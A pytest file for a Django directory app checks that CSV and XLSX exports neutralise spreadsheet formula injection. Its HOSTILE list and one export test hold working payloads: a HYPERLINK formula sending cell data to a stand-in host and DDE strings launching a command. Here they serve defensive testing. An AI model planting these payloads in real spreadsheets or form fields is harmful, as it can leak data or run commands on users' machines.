"""Every export goes through write_table, and no cell of it is a live formula (OWASP's CSV-injection rule)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from sanphalang.directory.services import organisation_create
from sanphalang.imports.tabular import read_table, write_table

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_csv_cell_that_begins_with_a_formula_trigger_gets_an_apostrophe(text):
    (_heading, row) = _csv_cells(write_table(["ชื่อ"], [[text]], fmt="csv"))
    assert row == ["'" + text]


@pytest.mark.parametrize("text", HOSTILE)
def test_an_xlsx_text_cell_is_stored_as_a_string_never_as_a_formula(text):
    sheet = load_workbook(io.BytesIO(write_table(["ชื่อ"], [[text]], fmt="xlsx"))).active
    cell = sheet["A2"]
    assert cell.data_type == "s" and cell.value == text


def test_numbers_typed_as_numbers_stay_numbers_negative_ones_too():
    # given a typed negative number and a text that looks like one
    rows = [[-5, "-5", 2.5, "กลุ่มออมทรัพย์"]]
    # then CSV writes the number as it is and neutralises only the text
    assert _csv_cells(write_table(["a", "b", "c", "d"], rows, fmt="csv"))[1] == [
        "-5",
        "'-5",
        "2.5",
        "กลุ่มออมทรัพย์",
    ]
    # and XLSX keeps the numbers numeric
    sheet = load_workbook(io.BytesIO(write_table(["a", "b", "c", "d"], rows, fmt="xlsx"))).active
    assert [(c.value, c.data_type) for c in sheet[2]] == [
        (-5, "n"),
        ("-5", "s"),
        (2.5, "n"),
        ("กลุ่มออมทรัพย์", "s"),
    ]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_exported_hostile_name_reads_back_as_written(fmt):
    data = write_table(["ชื่อ", "รหัส"], [[text, "570101"] for text in HOSTILE], fmt=fmt)
    table = read_table(data, f"export.{fmt}")
    assert [row[0] for _line, row in table.rows] == [text.strip() for text in HOSTILE]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_organisation_list_export_carries_no_formula(cast, client_for, fmt):
    # given an organisation whose name is a formula
    name = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    organisation_create(by=cast.admin, name_th=name, kind="network", area_code="57")
    # when the list is exported
    response = client_for(cast.chiangrai_coordinator).get(
        reverse("directory:organisation_list"), {"export": fmt}
    )
    assert response.status_code == 200
    # then the name is text
    if fmt == "csv":
        assert any(row and row[0] == "'" + name for row in _csv_cells(response.content))
    else:
        cells = [cell for row in load_workbook(io.BytesIO(response.content)).active for cell in row]
        assert [c.data_type for c in cells if c.value == name] == ["s"]
        assert not [c for c in cells if c.data_type == "f"]
